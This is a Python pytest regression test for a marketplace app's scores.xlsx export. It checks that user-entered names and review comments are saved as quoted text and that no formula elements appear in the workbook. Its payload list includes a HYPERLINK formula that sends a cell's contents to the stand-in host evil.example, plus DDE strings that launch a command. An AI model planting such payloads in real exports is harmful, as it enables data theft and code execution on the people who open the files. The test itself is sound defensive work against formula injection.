"""scores.xlsx carries what users typed as text: no cell of the workbook is ever a formula.

Regression (issue 10, "Input"): an organisation name or review comment starting with "=" became a
live formula in the chain admin's workbook (one sending a cell to an outside address).
"""
import io
import zipfile

import pytest
from factories import make_chain_admin, make_challenge, make_expert, make_org, make_proposal, make_user
from openpyxl import load_workbook

from marketplace.extensions import db
from marketplace.models import ChallengeState, OrgType, Review

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def world(ctx):
    poster = make_org("发榜企业")
    make_user("poster@example.com", poster)
    make_chain_admin("chain-ai@example.com", "ai")
    challenge = make_challenge(poster, ChallengeState.closed)
    proposals = [make_proposal(challenge, make_org(name, type=OrgType.university)) for name in ATTACKS[:3]]
    experts = [make_expert(f"e{i}@example.com") for i in range(len(ATTACKS))]
    experts[0].name = ATTACKS[0]
    db.session.commit()
    return {"challenge": challenge.id, "proposals": [p.id for p in proposals], "experts": [e.id for e in experts]}


def test_typed_text_starting_like_a_formula_is_written_as_text(app, client, auth, world):
    auth.login("chain-ai@example.com")
    for i, expert_id in enumerate(world["experts"]):
        proposal_id = world["proposals"][i % len(world["proposals"])]
        assert client.post(f"/proposals/{proposal_id}/reviewers", data={"expert_id": expert_id}).status_code == 303
    client.post("/auth/logout")
    for i, expert_id in enumerate(world["experts"]):
        auth.login(f"e{i}@example.com")
        review = db.session.scalar(db.select(Review).filter_by(expert_id=expert_id))
        response = client.post(f"/reviews/{review.id}", data={"c0": "80", "c1": "70", "c2": "60", "c3": "90", "c4": "75",
                                                                 "comment": ATTACKS[i]})
        assert response.status_code == 303, response.get_data(as_text=True)
        client.post("/auth/logout")
    auth.login("chain-ai@example.com")
    export = client.get(f"/challenges/{world['challenge']}/scores.xlsx")
    assert export.status_code == 200
    book = load_workbook(io.BytesIO(export.data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value.strip() for cell in cells if isinstance(cell.value, str)}
    for attack in ATTACKS:  # the text itself is kept, as text (a comment is stored trimmed)
        assert attack.strip() in texts
    assert all(cell.quotePrefix for cell in cells if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r")
    # And in the file itself: no <f> element anywhere (what Excel would evaluate).
    with zipfile.ZipFile(io.BytesIO(export.data)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
